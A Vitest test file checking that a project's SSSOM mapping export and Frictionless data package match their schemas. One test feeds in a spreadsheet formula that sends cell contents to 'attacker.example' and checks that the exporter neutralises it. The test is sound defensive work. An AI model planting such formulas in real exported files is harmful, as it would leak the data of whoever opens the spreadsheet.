import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { checkSources } from '../../src/lib/check/index.ts';
import { readContentDir } from '../../src/lib/node/content-dir.ts';
import { DATAPACKAGE_FILE, renderDataPackage, SSSOM_FILE } from '../../src/lib/spreadsheet/exchange/datapackage.ts';
import { PREDICATE_FOR_STRENGTH, renderSssom } from '../../src/lib/spreadsheet/exchange/sssom.ts';
import { exportTables, renderCsvFiles } from '../../src/lib/spreadsheet/export.ts';
import { FIXTURES, TODAY } from '../helpers.ts';

const content = checkSources(readContentDir(FIXTURES), { today: TODAY }).content;
const BASE = 'https://example.org/ipcle/';
const options = {
  version: '2026-11-25+abc1234',
  setUrl: `${BASE}data/export/${SSSOM_FILE}`,
  standardPrefix: `${BASE}standards/`,
  characteristicPrefix: `${BASE}characteristics/`,
  editionPrefix: `${BASE}editions/`,
};

/** The SSSOM TSV split into its YAML metadata block and its table. */
function readSssom(tsv: string) {
  const lines = tsv.trimEnd().split('\n');
  const meta = parseYaml(
    lines
      .filter((l) => l.startsWith('#'))
      .map((l) => l.slice(1))
      .join('\n'),
  ) as Record<string, unknown>;
  const [header, ...rows] = lines.filter((l) => !l.startsWith('#')).map((l) => l.split('\t'));
  return {
    meta,
    header: header!,
    rows: rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]]))),
    widths: rows.map((r) => r.length),
  };
}

// The SSSOM schema's slots (mapping-commons/sssom, sssom_schema.yaml): required ones and their ranges.
const SET_REQUIRED = { mapping_set_id: 'uri', license: 'uri' } as const;
const MAPPING_REQUIRED = ['subject_id', 'predicate_id', 'object_id', 'mapping_justification'] as const;
const MAPPING_SLOTS = new Set([
  ...MAPPING_REQUIRED,
  'subject_label',
  'subject_category',
  'subject_type',
  'subject_source',
  'subject_source_version',
  'predicate_label',
  'predicate_modifier',
  'object_label',
  'object_category',
  'object_type',
  'object_source',
  'object_source_version',
  'author_id',
  'author_label',
  'reviewer_id',
  'reviewer_label',
  'creator_id',
  'creator_label',
  'license',
  'mapping_provider',
  'mapping_tool',
  'mapping_date',
  'confidence',
  'comment',
  'see_also',
  'other',
  'issue_tracker_item',
  'mapping_cardinality',
  'curation_rule',
  'curation_rule_text',
]);
const ENTITY_TYPES = [
  'owl class',
  'owl object property',
  'owl data property',
  'owl annotation property',
  'owl named individual',
  'skos concept',
  'rdfs resource',
  'rdfs class',
  'rdfs literal',
  'rdfs datatype',
  'rdf property',
];
/** Prefixes SSSOM declares itself, usable without a curie_map entry. */
const BUILTIN = new Set([
  'owl',
  'rdf',
  'rdfs',
  'skos',
  'sssom',
  'semapv',
  'xsd',
  'linkml',
  'oboInOwl',
  'dcterms',
  'pav',
]);
const CURIE = /^([A-Za-z_][A-Za-z0-9_.-]*):(\S+)$/;
const isUri = (s: unknown) => typeof s === 'string' && /^https?:\/\/\S+$/.test(s) && URL.canParse(s);

describe('SSSOM mapping set', () => {
  const tsv = renderSssom(content, options);
  const { meta, header, rows, widths } = readSssom(tsv);
  const mappings = content.standards.flatMap((s) => s.data.mappings.map((m) => ({ s, m })));

  it('has the set-level required fields with their value types', () => {
    for (const [slot, range] of Object.entries(SET_REQUIRED))
      expect(isUri(meta[slot]), `${slot} is a ${range}`).toBe(true);
    expect(meta.license).toBe('https://creativecommons.org/licenses/by/4.0/');
    expect(meta.mapping_set_version).toBe(options.version);
    for (const [prefix, uri] of Object.entries(meta.curie_map as Record<string, string>)) {
      expect(prefix).toMatch(/^[A-Za-z_][A-Za-z0-9_.-]*$/);
      expect(isUri(uri)).toBe(true);
      expect(BUILTIN.has(prefix), `${prefix} must not redefine an SSSOM built-in prefix`).toBe(false);
    }
    expect(ENTITY_TYPES).toContain(meta.subject_type);
    expect(ENTITY_TYPES).toContain(meta.object_type);
  });

  it('has one row per mapping, only SSSOM slots as columns, and every required slot as a declared CURIE', () => {
    expect(rows).toHaveLength(mappings.length);
    expect(mappings.length).toBeGreaterThan(0);
    expect(new Set(widths)).toEqual(new Set([header.length]));
    for (const h of header) expect(MAPPING_SLOTS.has(h), h).toBe(true);
    const declared = new Set([...Object.keys(meta.curie_map as object), ...BUILTIN]);
    for (const r of rows)
      for (const slot of [...MAPPING_REQUIRED, 'subject_source']) {
        const m = CURIE.exec(r[slot] ?? '');
        expect(m, `${slot} "${r[slot]}" is a CURIE`).not.toBeNull();
        expect(declared.has(m![1]!), `prefix of ${r[slot]}`).toBe(true);
      }
  });

  it('chooses the predicate by strength, with the rationale as comment and agreeing reviewers', () => {
    for (const { s, m } of mappings) {
      const row = rows.find((r) => r.subject_id === `ipclestd:${s.id}` && r.object_id === `ipcle:${m.characteristic}`)!;
      expect(row.predicate_id).toBe(PREDICATE_FOR_STRENGTH[m.strength]);
      expect(row.mapping_justification).toBe('semapv:ManualMappingCuration');
      expect(row.comment).toBe(m.rationale.replace(/\s+/g, ' ').trim());
      expect(row.reviewer_label).toBe(
        m.reviews
          .filter((v) => v.verdict === 'agree')
          .map((v) => v.reviewer)
          .join('|'),
      );
      expect(row.author_label).not.toBe('');
    }
    expect(new Set(Object.values(PREDICATE_FOR_STRENGTH)).size).toBe(3);
  });

  it('neutralises a rationale that a spreadsheet opening the TSV would run as a formula', () => {
    const s = content.standards.find((x) => x.data.mappings.length)!;
    const rationale = '=HYPERLINK("https://attacker.example/?"&A1,"Click")';
    const hostile = {
      ...content,
      standards: [{ ...s, data: { ...s.data, mappings: [{ ...s.data.mappings[0]!, rationale }] } }],
    };
    expect(readSssom(renderSssom(hostile, options)).rows[0]!.comment).toBe(`'${rationale}`);
  });

  it('keeps a rationale with tabs and line breaks in one cell', () => {
    const s = content.standards.find((x) => x.data.mappings.length)!;
    const tricky = {
      ...content,
      standards: [
        { ...s, data: { ...s.data, mappings: [{ ...s.data.mappings[0]!, rationale: 'one\ttwo\r\nthree' }] } },
      ],
    };
    const t = readSssom(renderSssom(tricky, options));
    expect(t.rows).toHaveLength(1);
    expect(t.rows[0]!.comment).toBe('one two three');
  });
});

describe('Frictionless data package', () => {
  const pkg = JSON.parse(renderDataPackage(options.version));
  const csv = renderCsvFiles(exportTables(content));

  it('describes every CSV download and the SSSOM set, with names and fields matching the files', () => {
    expect(pkg.name).toMatch(/^[a-z0-9._-]+$/);
    expect(pkg.licenses[0].path).toBe('https://creativecommons.org/licenses/by/4.0/');
    const paths = pkg.resources.map((r: { path: string }) => r.path);
    expect(paths.sort()).toEqual([...csv.keys(), SSSOM_FILE].sort());
    const names = pkg.resources.map((r: { name: string }) => r.name);
    expect(new Set(names).size).toBe(names.length);
    for (const r of pkg.resources) {
      expect(r.name).toMatch(/^[a-z0-9._-]+$/);
      const text = r.path === SSSOM_FILE ? renderSssom(content, options) : csv.get(r.path)!;
      const headerLine = text
        .replace(/^\uFEFF/, '')
        .split(/\r?\n/)
        .find((l: string) => !l.startsWith('#'))!;
      const header = headerLine.split(r.dialect.delimiter);
      expect(r.schema.fields.map((f: { name: string }) => f.name)).toEqual(header);
    }
    expect(DATAPACKAGE_FILE).toBe('datapackage.json');
  });

  it('types fields by what they hold: integers, full dates and enums from the schemas', () => {
    const types = new Set(
      pkg.resources.flatMap((r: { schema: { fields: { type: string }[] } }) => r.schema.fields.map((f) => f.type)),
    );
    for (const t of types) expect(['string', 'integer', 'number', 'date']).toContain(t);
    const field = (res: string, name: string) =>
      pkg.resources
        .find((r: { name: string }) => r.name === res)
        .schema.fields.find((f: { name: string }) => f.name === name);
    expect(field('accreditors', 'reissueEveryYears').type).toBe('integer');
    expect(field('standards', 'readDate').type).toBe('date');
    // Partial dates ("2025-07") are allowed there, so they stay strings.
    expect(field('editions', 'effectiveFrom').type).toBe('string');
    expect(field('standards', 'verification').constraints.enum).toEqual(['verified', 'secondary', 'unverified']);
    expect(field('mappings', 'strength').constraints).toEqual({
      required: true,
      enum: ['explicit', 'partial', 'implicit'],
    });
  });
});
